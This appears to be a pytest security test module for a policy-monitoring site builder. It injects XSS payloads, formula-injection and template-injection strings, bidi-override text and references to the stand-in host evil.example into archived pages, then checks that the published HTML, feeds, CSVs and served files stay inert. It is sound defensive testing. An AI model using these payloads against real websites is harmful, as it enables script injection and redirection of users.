"""A hostile page, imported, judged, published and served: in every file of the build it is text and nothing else."""

from __future__ import annotations

import csv
import json
import re
import sqlite3
from collections.abc import Iterator
from contextlib import closing
from io import BytesIO
from pathlib import Path
from urllib.parse import urlsplit
from zipfile import ZipFile

import feedparser
import httpx
import pytest
from click.testing import CliRunner
from lxml import etree
from PIL import Image
from playwright.sync_api import Browser
from selectolax.lexbor import LexborHTMLParser, LexborNode

from monitor.command_line.program import policywatch as program
from snapshots.opening import open_archive
from tests.browsing import opened
from tests.end_to_end.warcs import write_warc
from tests.monitor.pages import page, with_change
from tests.story import served

TITLE = 'Harbour"><img src=x onerror=alert(1)></title><script>alert(2)</script>'
FORGED = "</p></article><script>alert(3)</script><img src=x onerror=alert(4)>]]>--><style>*{display:none}</style>"
MARKS = "{{ 7 * 7 }}{% raw %}"
FORMULA = '=HYPERLINK("https://evil.example/","pay") for each berth.'
TURNED = "The \u202erettel eht\u202c is kept for \ud800 thirty days."


def written(text: str) -> str:
    """Return a text as a page shows it to readers, with every sign that means something written out."""
    return "".join(f"&#{ord(sign)};" if sign in "<>&\"'{}%\u202e\u202c\ud800" else sign for sign in text)


def hostile(body: bytes) -> bytes:
    """Return a page with all that a page can hold against those who show it."""
    text = body.decode()
    attack = (
        "<script>alert(5)</script><style>body{display:none}</style><base href='https://evil.example/'>"
        "<meta http-equiv='refresh' content='0;url=https://evil.example/'>"
        "<iframe srcdoc='<script>alert(6)</script>'></iframe><svg onload='alert(7)'><script>alert(8)</script></svg>"
        "<object data='javascript:alert(9)'></object><p onclick='alert(10)' style='position:fixed'>We keep the log.</p>"
        "<p><a href='javascript:alert(11)'>Object to this use here</a> and "
        "<a href='data:text/html,&lt;script&gt;alert(12)&lt;/script&gt;'>opt out</a> and "
        "<a href='//evil.example/&quot;onmouseover=&quot;alert(13)'>learn more</a>.</p>"
        f"<h2>{written(FORGED)}</h2><p>We read {written(FORGED)} of each boat.</p>"
        f"<p>{written(MARKS)} is how the harbour counts.</p><p>{written(FORMULA)}</p><p>{written(TURNED)}</p>"
        f"<form action='javascript:alert(14)'><label>{written(FORGED)} <input name='x' required></label></form>"
    )
    return text.replace("</main>", f"{attack}</main>").encode("utf-8", "surrogatepass")


def run(*arguments: str | Path) -> str:
    return CliRunner().invoke(program, [str(a) for a in arguments], catch_exceptions=False).stdout


@pytest.fixture(scope="module")
def archive(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    wider = with_change("How we use it", 1, f"Private messages {written(FORGED)} are used to train AI.")
    nested = page(extra="<div>" * 100_000 + "Deep." + "</div>" * 100_000)
    bodies = [page(), hostile(page()), hostile(page(wider)), hostile(page(wider, nonce="2")), nested]
    write_warc(folder / "p.warc.gz", list(enumerate(bodies)))
    run(
        "import", "warc", folder / "p.warc.gz", "--document", "harbour-policy", "--archive", folder / "a",
        "--title", TITLE, "--service", FORGED, "--kind", "opt-out-form",
    )  # fmt: skip
    return folder / "a"


@pytest.fixture(scope="module")
def site(archive: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Path]]:
    out = tmp_path_factory.mktemp("published") / "site"
    with closing(open_archive(archive)) as made, served(made, out, title=TITLE) as address:
        yield address, out


def faults(tree: LexborHTMLParser, where: object) -> list[str]:
    """Return what stands in markup of ours that could run, lead or load somewhere."""
    found = []
    for node in tree.css("*"):
        found += [f"{where}: <{node.tag}> {said}" for said in _faults(node)]
    return found


def _faults(node: LexborNode) -> Iterator[str]:
    attributes = {name: value or "" for name, value in node.attributes.items()}
    if node.tag in ("iframe", "object", "embed", "base", "style", "frame", "applet", "audio", "video", "img"):
        yield "has no place"
    if node.tag == "script" and attributes.get("type") == "application/ld+json":
        return  # data, which no browser runs
    if node.tag == "script" and (node.text() or not re.fullmatch(r"[./]*static/site\.js", attributes.get("src", ""))):
        yield "is not ours"
    if node.tag == "meta" and attributes.get("http-equiv", "Content-Security-Policy") != "Content-Security-Policy":
        yield "steers"
    for name, value in attributes.items():
        if name.startswith("on") or name in ("style", "srcdoc", "formaction", "background", "ping"):
            yield f"has {name}"
        if name in ("href", "src", "action", "xlink:href", "cite", "content") and value:
            scheme = re.match(r"\s*([a-z][a-z0-9+.-]*):", value, re.IGNORECASE)
            if scheme and name != "content" and scheme[1].lower() not in ("http", "https", "mailto"):
                yield f"leads to {value[:60]}"
            if name != "content" and urlsplit(value).hostname == "evil.example":
                yield f"leads to {value[:60]}"


def files(out: Path, *suffixes: str) -> list[Path]:
    return [path for path in sorted(out.rglob("*")) if path.is_file() and path.suffix in suffixes]


@pytest.mark.parametrize(
    "markup",
    [
        "<script>alert(1)</script>",
        "<script src='https://evil.example/site.js'></script>",
        "<p onclick='x()'>",
        "<p style='color:red'>",
        "<a href=' javascript:x()'>x</a>",
        "<a href='data:text/html,x'>x</a>",
        "<a href='//evil.example/'>x</a>",
        "<iframe></iframe>",
        "<meta http-equiv='refresh' content='0'>",
        "<base href='/x'>",
        "<form action='vbscript:x'></form>",
        "<svg><a xlink:href='javascript:x()'>x</a></svg>",
    ],
)
def test_what_could_run_is_found_where_it_is(markup: str) -> None:
    assert faults(LexborHTMLParser(f"<body>{markup}"), "here")


def test_it_alerts_and_its_words_are_shown(archive: Path, site: tuple[str, Path]) -> None:
    _, out = site
    (alert, *_) = [json.loads(line) for line in run("alerts", "--json", "--archive", archive).splitlines()]
    assert "alert(3)" in json.dumps(alert)
    shown = LexborHTMLParser((out / f"changes/{alert['change']}/index.html").read_bytes())
    assert shown.body
    assert "<script>alert(3)</script>" in shown.body.text()
    versions = [path.read_text() for path in out.glob("d/harbour-policy/v/*/index.html")]
    assert any(MARKS in LexborHTMLParser(version).body.text() for version in versions)  # type: ignore[union-attr]


def test_no_page_holds_anything_that_runs(site: tuple[str, Path]) -> None:
    _, out = site
    pages = files(out, ".html", ".svg")
    assert len(pages) > 40
    assert [fault for path in pages for fault in faults(LexborHTMLParser(path.read_bytes()), path)] == []


def test_feeds_and_sitemaps_are_sound_xml_with_safe_entries(site: tuple[str, Path]) -> None:
    _, out = site
    for path in files(out, ".atom", ".rss", ".opml", ".xml"):
        etree.parse(path, etree.XMLParser(resolve_entities=False, recover=False))
        for entry in feedparser.parse(path.read_bytes()).entries:
            contents = [part.value for part in entry.get("content", ()) if part.type == "text/html"]
            assert [fault for html in contents for fault in faults(LexborHTMLParser(html), path)] == []


def test_json_tables_pictures_and_archives_are_sound(site: tuple[str, Path]) -> None:
    _, out = site
    for path in files(out, ".json"):
        json.loads(path.read_bytes())
    for path in files(out, ".jsonl"):
        assert all(json.loads(line) for line in path.read_bytes().splitlines())
    for path in files(out, ".csv"):
        with path.open(newline="", encoding="utf-8") as file:
            for row in csv.reader(file):
                assert not any(cell.startswith(tuple("=+-@\t\r\n")) for cell in row), path
    for path in files(out, ".sqlite"):
        with closing(sqlite3.connect(path)) as database:
            assert database.execute("SELECT count(*) FROM segments WHERE text LIKE '=HYPERLINK%'").fetchone() == (1,)
    for path in files(out, ".png"):
        Image.open(BytesIO(path.read_bytes())).load()
    for path in files(out, ".zip"):
        with ZipFile(path) as pack:
            assert pack.testzip() is None
            assert not [name for name in pack.namelist() if name.startswith("/") or ".." in name]


def test_what_was_received_is_never_shown_as_a_page(site: tuple[str, Path]) -> None:
    address, out = site
    received = [path for path in files(out, ".txt", ".html") if b"<script>alert(5)" in path.read_bytes()]
    assert received
    for path in received:
        answer = httpx.get(address + path.relative_to(out).as_posix())
        assert answer.headers["content-type"].startswith("text/plain")
        assert answer.headers["content-disposition"].startswith("attachment")
        assert answer.headers["x-content-type-options"] == "nosniff"


def test_a_browser_runs_nothing_of_it(site: tuple[str, Path], browser: Browser) -> None:
    address, out = site
    version = next(path for path in out.glob("d/harbour-policy/v/*/index.html") if "alert(3)" in path.read_text())
    for path in ("changes/1/", version.parent.relative_to(out).as_posix() + "/"):
        with opened(browser, "about:blank") as shown:
            dialogs: list[str] = []
            shown.page.on("dialog", lambda dialog, heard=dialogs: heard.append(dialog.message))  # type: ignore[misc]
            shown.page.goto(address + path)
            assert (dialogs, shown.complaints) == ([], [])
            assert shown.page.evaluate("document.images.length") == 0
